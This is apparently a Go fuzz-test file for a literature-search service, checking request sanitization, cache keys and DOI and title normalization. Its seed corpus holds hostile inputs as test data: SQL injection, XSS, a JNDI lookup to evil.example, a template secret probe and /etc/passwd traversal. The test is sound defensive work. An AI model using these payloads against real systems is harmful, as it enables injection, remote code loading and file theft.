// Package security fuzzes the service's input handling. The primary
// invariant is that no input causes a panic in JSON parsing, request
// sanitization, cache key derivation, or identifier normalization.
package security

import (
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/evidencehq/litsearch/internal/canon"
	"github.com/evidencehq/litsearch/internal/domain"
	"github.com/evidencehq/litsearch/internal/repository"
)

// searchRequest mirrors the HTTP handler's request struct so the fuzzer can
// exercise the same decode-then-sanitize path without importing the server
// package's unexported types.
type searchRequest struct {
	Query           string               `json:"query"`
	Filters         domain.SearchFilters `json:"filters"`
	MaxCandidates   int                  `json:"max_candidates"`
	MaxEvidenceRows int                  `json:"max_evidence_rows"`
	ResponseMode    string               `json:"response_mode,omitempty"`
	Domain          string               `json:"domain,omitempty"`
}

// Bounds matching the HTTP handler's sanitization constants.
const (
	minQueryChars      = 3
	maxQueryChars      = 2000
	defaultCandidates  = 200
	maxCandidatesCap   = 5000
	defaultRows        = 50
	minRows            = 10
	maxRowsCap         = 500
	minPublicationYear = 1900
	maxPublicationYear = 2100
)

// sanitize replicates the handler's clamp-don't-reject policy: only a
// missing, short, long, or year-inverted request fails.
func (req *searchRequest) sanitize() error {
	req.Query = strings.TrimSpace(req.Query)
	if req.Query == "" {
		return errors.New("query is required")
	}
	if len(req.Query) < minQueryChars {
		return fmt.Errorf("query must be at least %d characters", minQueryChars)
	}
	if len(req.Query) > maxQueryChars {
		return fmt.Errorf("query must be at most %d characters", maxQueryChars)
	}

	if req.MaxCandidates <= 0 {
		req.MaxCandidates = defaultCandidates
	}
	if req.MaxCandidates > maxCandidatesCap {
		req.MaxCandidates = maxCandidatesCap
	}

	if req.MaxEvidenceRows == 0 {
		req.MaxEvidenceRows = defaultRows
	}
	if req.MaxEvidenceRows < minRows {
		req.MaxEvidenceRows = minRows
	}
	if req.MaxEvidenceRows > maxRowsCap {
		req.MaxEvidenceRows = maxRowsCap
	}

	if req.Filters.FromYear < minPublicationYear {
		req.Filters.FromYear = minPublicationYear
	}
	if req.Filters.ToYear <= 0 {
		req.Filters.ToYear = time.Now().Year()
	}
	if req.Filters.ToYear > maxPublicationYear {
		req.Filters.ToYear = maxPublicationYear
	}
	if req.Filters.ToYear < req.Filters.FromYear {
		return fmt.Errorf("to_year %d precedes from_year %d", req.Filters.ToYear, req.Filters.FromYear)
	}

	if len(req.Filters.Languages) == 0 {
		req.Filters.Languages = []string{"en"}
	}

	return nil
}

// FuzzSearchQuery checks that arbitrary query strings survive the JSON
// round-trip and that a sanitized request always lands inside its bounds.
func FuzzSearchQuery(f *testing.F) {
	seeds := []string{
		// SQL injection payloads
		"'; DROP TABLE searches; --",
		"1 OR 1=1",
		"' UNION SELECT * FROM jobs --",

		// XSS payloads
		"<script>alert('xss')</script>",
		`<img src=x onerror=alert(1)>`,

		// Null bytes and control characters
		"query\x00with\x00nulls",
		"query\nwith\nnewlines",
		"query\twith\ttabs",

		// Unicode edge cases
		"",
		"​",
		"\uFEFF",
		"\U0001F9EC genomic query",
		"Schrödinger's cat",
		"‮right-to-left‬",
		"unicode: 研究 données Übersicht",
		string([]byte{0xfe, 0xff}),

		// Length boundaries
		"ab",
		strings.Repeat("a", maxQueryChars),
		strings.Repeat("a", maxQueryChars+1),
		strings.Repeat("é", 3000),

		// Template/JNDI injection
		"${jndi:ldap://evil.example/a}",
		"{{.Env.SECRET}}",

		// Path traversal
		"../../etc/passwd",
		"%2e%2e%2f%2e%2e%2f",

		// JSON special characters
		`{"nested": "json"}`,
		`"already quoted"`,

		// Whitespace only
		" ",
		"   ",
	}
	for _, seed := range seeds {
		f.Add(seed, 0, 0, 0, 0)
	}
	f.Add("year probe", -5000, 99999, 1500, 2500)
	f.Add("limit probe", 1<<30, -1, 2020, 2021)

	f.Fuzz(func(t *testing.T, query string, maxCandidates, maxRows, fromYear, toYear int) {
		req := searchRequest{
			Query:           query,
			MaxCandidates:   maxCandidates,
			MaxEvidenceRows: maxRows,
			Filters:         domain.SearchFilters{FromYear: fromYear, ToYear: toYear},
		}

		raw, err := json.Marshal(req)
		if err != nil {
			t.Fatalf("marshal failed for query %q: %v", query, err)
		}
		var decoded searchRequest
		if err := json.Unmarshal(raw, &decoded); err != nil {
			t.Fatalf("unmarshal failed for query %q: %v", query, err)
		}
		if utf8.ValidString(query) && decoded.Query != query {
			t.Errorf("query mutated in round-trip: %q != %q", decoded.Query, query)
		}

		if err := decoded.sanitize(); err != nil {
			return
		}

		if got := len(decoded.Query); got < minQueryChars || got > maxQueryChars {
			t.Errorf("sanitized query length %d outside [%d, %d]", got, minQueryChars, maxQueryChars)
		}
		if decoded.Query != strings.TrimSpace(decoded.Query) {
			t.Errorf("sanitized query keeps surrounding whitespace: %q", decoded.Query)
		}
		if decoded.MaxCandidates <= 0 || decoded.MaxCandidates > maxCandidatesCap {
			t.Errorf("sanitized max_candidates %d outside (0, %d]", decoded.MaxCandidates, maxCandidatesCap)
		}
		if decoded.MaxEvidenceRows < minRows || decoded.MaxEvidenceRows > maxRowsCap {
			t.Errorf("sanitized max_evidence_rows %d outside [%d, %d]", decoded.MaxEvidenceRows, minRows, maxRowsCap)
		}
		if decoded.Filters.FromYear < minPublicationYear {
			t.Errorf("sanitized from_year %d below %d", decoded.Filters.FromYear, minPublicationYear)
		}
		if decoded.Filters.ToYear > maxPublicationYear {
			t.Errorf("sanitized to_year %d above %d", decoded.Filters.ToYear, maxPublicationYear)
		}
		if decoded.Filters.ToYear < decoded.Filters.FromYear {
			t.Errorf("sanitized year range inverted: %d..%d", decoded.Filters.FromYear, decoded.Filters.ToYear)
		}
		if len(decoded.Filters.Languages) == 0 {
			t.Error("sanitized request has no languages")
		}
	})
}

// FuzzCacheKey checks the search-cache key derivation: fixed-size hex
// output, determinism, and insensitivity to query whitespace and language
// ordering.
func FuzzCacheKey(f *testing.F) {
	f.Add("semaglutide outcomes", 2015, 2025, "en", "de", 200, 50, "")
	f.Add("", 0, 0, "", "", 0, 0, "biomed")
	f.Add("'; DROP TABLE search_cache; --", 1900, 2100, "EN", "fr", 5000, 500, "domain")
	f.Add("unicode 研究", -100, 99999, "zh", "ja", 1, 1, " ")

	f.Fuzz(func(t *testing.T, query string, fromYear, toYear int, lang1, lang2 string, maxCandidates, maxRows int, searchDomain string) {
		filters := domain.SearchFilters{
			FromYear:  fromYear,
			ToYear:    toYear,
			Languages: []string{lang1, lang2},
		}
		key := repository.CacheKey(query, filters, maxCandidates, maxRows, searchDomain)

		if len(key) != 64 {
			t.Fatalf("cache key %q is not a sha256 hex digest", key)
		}
		for _, r := range key {
			if !strings.ContainsRune("0123456789abcdef", r) {
				t.Fatalf("cache key %q contains non-hex rune %q", key, r)
			}
		}

		if again := repository.CacheKey(query, filters, maxCandidates, maxRows, searchDomain); again != key {
			t.Errorf("cache key is not deterministic: %q != %q", again, key)
		}

		swapped := domain.SearchFilters{
			FromYear:  fromYear,
			ToYear:    toYear,
			Languages: []string{lang2, lang1},
		}
		if swappedKey := repository.CacheKey(query, swapped, maxCandidates, maxRows, searchDomain); swappedKey != key {
			t.Errorf("language order changed the key: %q != %q", swappedKey, key)
		}

		spaced := "  " + strings.Join(strings.Fields(query), "   ") + "\t"
		if wsKey := repository.CacheKey(spaced, filters, maxCandidates, maxRows, searchDomain); wsKey != key {
			t.Errorf("query whitespace changed the key: %q != %q", wsKey, key)
		}
	})
}

// FuzzNormalizeDOI checks that DOI normalization never panics and always
// yields a trimmed, lower-cased identifier.
func FuzzNormalizeDOI(f *testing.F) {
	seeds := []string{
		"",
		"10.1000/abc",
		"DOI:10.1000/ABC",
		"https://doi.org/10.1000/abc",
		"http://dx.doi.org/10.1000/abc.DEF",
		"https://doi.org/doi:10.1000/abc",
		"   10.1000/padded   ",
		"not a doi at all",
		"doi:doi:doi:10.1/x",
		"10.1000/unicode-研究",
	}
	for _, seed := range seeds {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, doi string) {
		got := canon.NormalizeDOI(doi)

		if got != strings.TrimSpace(got) {
			t.Errorf("NormalizeDOI(%q) = %q keeps surrounding whitespace", doi, got)
		}
		if got != strings.ToLower(got) {
			t.Errorf("NormalizeDOI(%q) = %q is not lower-cased", doi, got)
		}
		if strings.TrimSpace(doi) == "" && got != "" {
			t.Errorf("NormalizeDOI(%q) = %q, want empty", doi, got)
		}

		// Case variants of the same string must collapse to one key. Guarded
		// because a few unicode code points do not round-trip through
		// ToUpper/ToLower.
		upper := strings.ToUpper(doi)
		if strings.ToLower(upper) == strings.ToLower(doi) {
			if upperKey := canon.NormalizeDOI(upper); upperKey != got {
				t.Errorf("case variant diverged: %q != %q", upperKey, got)
			}
		}
	})
}

// FuzzNormalizeTitle checks the title matching key: idempotent, word-order
// insensitive, and free of punctuation and repeated spaces.
func FuzzNormalizeTitle(f *testing.F) {
	seeds := []string{
		"",
		"Semaglutide and Cardiovascular Outcomes",
		"OUTCOMES: cardiovascular, and semaglutide!",
		"  spaced    out   title  ",
		"unicode Übersicht — données 研究",
		"punctuation!@#$%^&*()only",
		"123 numeric 456 title",
	}
	for _, seed := range seeds {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, title string) {
		key := canon.NormalizeTitle(title)

		if again := canon.NormalizeTitle(key); again != key {
			t.Errorf("NormalizeTitle is not idempotent: %q -> %q", key, again)
		}
		if strings.Contains(key, "  ") {
			t.Errorf("NormalizeTitle(%q) = %q contains repeated spaces", title, key)
		}
		if key != strings.TrimSpace(key) {
			t.Errorf("NormalizeTitle(%q) = %q keeps surrounding whitespace", title, key)
		}

		tokens := strings.Fields(title)
		if len(tokens) > 1 {
			reversed := make([]string, len(tokens))
			for i, token := range tokens {
				reversed[len(tokens)-1-i] = token
			}
			if reorderedKey := canon.NormalizeTitle(strings.Join(reversed, " ")); reorderedKey != key {
				t.Errorf("word order changed the key: %q != %q", reorderedKey, key)
			}
		}
	})
}
